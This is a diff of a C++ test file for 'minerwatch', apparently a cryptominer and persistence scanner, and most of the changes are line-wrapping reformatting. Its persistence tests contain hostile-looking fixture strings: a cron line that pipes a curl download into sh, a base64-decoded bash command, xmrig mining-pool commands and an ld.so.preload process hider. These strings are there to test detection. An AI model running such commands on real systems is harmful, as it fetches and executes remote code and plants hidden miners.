@@ -1,5 +1,6 @@
 // minerwatch — SPDX-License-Identifier: Apache-2.0
 #include <arpa/inet.h>
+#include <gtest/gtest.h>
 #include <netinet/in.h>
 #include <signal.h>
 #include <sys/mman.h>
@@ -12,8 +13,6 @@
 #include <fstream>
 #include <random>
 #include <set>
-
-#include <gtest/gtest.h>
 
 #include "hostscan/host_scanner.h"
 #include "hostscan/memory_scanner.h"
@@ -105,7 +104,8 @@ TEST(ProcParsers, SmapsAddsResidency) {
   EXPECT_EQ(maps[0].resident_bytes, 4096u);
   EXPECT_EQ(maps[1].resident_bytes, 12u * 1024);
   // Plain maps text has no residency.
-  EXPECT_FALSE(ParseMaps("00400000-00401000 r-xp 00000000 fe:00 1234 /usr/bin/x\n")[0].residency_known);
+  EXPECT_FALSE(
+      ParseMaps("00400000-00401000 r-xp 00000000 fe:00 1234 /usr/bin/x\n")[0].residency_known);
 }
 
 TEST(ProcParsers, MapsTruncatedMidLine) {
@@ -116,9 +116,12 @@ TEST(ProcParsers, MapsTruncatedMidLine) {
 
 TEST(ProcParsers, ProcNetV4AndV6) {
   std::string tcp =
-      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
-      "   0: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000   118        0 21478 1 0000000000000000 100 0 0 10 0\n"
-      "   1: 0F02000A:C350 2A01A8C0:0D05 01 00000000:00000000 00:00000000 00000000     0        0 99 1\n"
+      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout "
+      "inode\n"
+      "   0: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000   118        0 "
+      "21478 1 0000000000000000 100 0 0 10 0\n"
+      "   1: 0F02000A:C350 2A01A8C0:0D05 01 00000000:00000000 00:00000000 00000000     0        0 "
+      "99 1\n"
       "   2: truncated";
   ParseStats st;
   auto v4 = ParseProcNet(tcp, false, false, &st);
@@ -231,7 +234,8 @@ TEST(Yara, UserRuleErrorsNameTheFile) {
   WriteFile(dir / "bad.yar", "rule x {\n condition: nosuchthing\n}\n");
   auto rules = YaraRules::Load(false, {(dir / "bad.yar").string()});
   ASSERT_FALSE(rules);
-  EXPECT_NE(rules.error().message().find("bad.yar:2"), std::string::npos) << rules.error().message();
+  EXPECT_NE(rules.error().message().find("bad.yar:2"), std::string::npos)
+      << rules.error().message();
   EXPECT_FALSE(YaraRules::Load(false, {(dir / "missing.yar").string()}));
   fs::remove_all(dir);
 }
@@ -396,8 +400,7 @@ TEST(Process, ReadsSelfWithSockets) {
 TEST(Process, TruncatedProcFilesInFixtureRoot) {
   fs::path root = TempDir("proc");
   WriteFile(root / "proc/77/stat", "77 (half");  // truncated mid-file
-  WriteFile(root / "proc/78/stat",
-            "78 (ok) S 1 78 78 0 -1 0 0 0 0 0 5 5 0 0 20 0 1 0 99 0 0");
+  WriteFile(root / "proc/78/stat", "78 (ok) S 1 78 78 0 -1 0 0 0 0 0 5 5 0 0 20 0 1 0 99 0 0");
   WriteFile(root / "proc/78/cmdline", std::string("ok\0--x", 6));
   WriteFile(root / "proc/78/status", "Name:\tok\nUid:");  // cut before the numbers
   ProcReader reader(ReadOptions{.root = root.string()});
@@ -488,7 +491,8 @@ TEST(PageDb, AddBinaryMatchesRunningCopyAndSurvivesAppend) {
 
 TEST(PageDb, ParseErrorsAreClear) {
   EXPECT_FALSE(PageDb::Parse("not a db\n"));
-  auto bad = PageDb::Parse("minerwatch-pagedb 1\nb 0 x " + std::string(64, 'a') + " 2 n\np 0 00000000000000ff\n");
+  auto bad = PageDb::Parse("minerwatch-pagedb 1\nb 0 x " + std::string(64, 'a') +
+                           " 2 n\np 0 00000000000000ff\n");
   ASSERT_FALSE(bad);  // header says 2 pages, one record: truncated
   EXPECT_NE(bad.error().message().find("truncated"), std::string::npos);
   EXPECT_FALSE(PageDb::Parse("minerwatch-pagedb 1\np 0 00000000000000ff\n"));
@@ -505,7 +509,8 @@ TEST(Persistence, ClassifyLine) {
   EXPECT_FALSE(ClassifyLine("*/5 * * * * curl -fsSL http://x.example/a.sh | sh", none).empty());
   EXPECT_FALSE(ClassifyLine("ExecStart=/opt/x/xmrig -o stratum+tcp://p:3333", none).empty());
   EXPECT_FALSE(ClassifyLine("echo " + std::string(100, 'A') + " | base64 -d | bash", none).empty());
-  EXPECT_TRUE(ClassifyLine("17 * * * * root cd / && run-parts --report /etc/cron.hourly", none).empty());
+  EXPECT_TRUE(
+      ClassifyLine("17 * * * * root cd / && run-parts --report /etc/cron.hourly", none).empty());
   EXPECT_TRUE(ClassifyLine("ExecStart=/usr/sbin/sshd -D $SSHD_OPTS", none).empty());
   std::vector<std::string> miners = {"/var/tmp/.x/kworker"};
   EXPECT_FALSE(ClassifyLine("@reboot /var/tmp/.x/kworker", miners).empty());
@@ -526,8 +531,9 @@ TEST(Persistence, HostsInLine) {
 TEST(Persistence, LinesNamingAnIntelHostAreFlagged) {
   fs::path root = TempDir("persist-intel");
   // Nothing here trips the built-in heuristics: only intel can tell the host is a dropper.
-  WriteFile(root / "etc/cron.d/update", "*/15 * * * * root /usr/bin/fetchcfg dl.badhost.example\n"
-                                        "0 3 * * * root /usr/bin/fetchcfg mirror.good.example\n");
+  WriteFile(root / "etc/cron.d/update",
+            "*/15 * * * * root /usr/bin/fetchcfg dl.badhost.example\n"
+            "0 3 * * * root /usr/bin/fetchcfg mirror.good.example\n");
   PersistenceOptions po{.root = root.string()};
   po.lookup_host = [](std::string_view h) -> std::optional<std::string> {
     if (h == "dl.badhost.example") return std::string("test list: miner dropper");
@@ -553,7 +559,8 @@ TEST(Persistence, FixtureRootFindsEachAndCleanRootNothing) {
             "ExecStart=/usr/local/bin/sysupdate -o stratum+tcp://pool.example.org:3333 "
             "--donate-level 1\n[Install]\nWantedBy=multi-user.target\n");
   WriteFile(root / "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
-  WriteFile(root / "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG admin@host\n");
+  WriteFile(root / "root/.ssh/authorized_keys",
+            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG admin@host\n");
   std::vector<std::string> errors;
   auto hits = ScanPersistence(PersistenceOptions{.root = root.string()}, &errors);
   ASSERT_EQ(hits.size(), 3u);
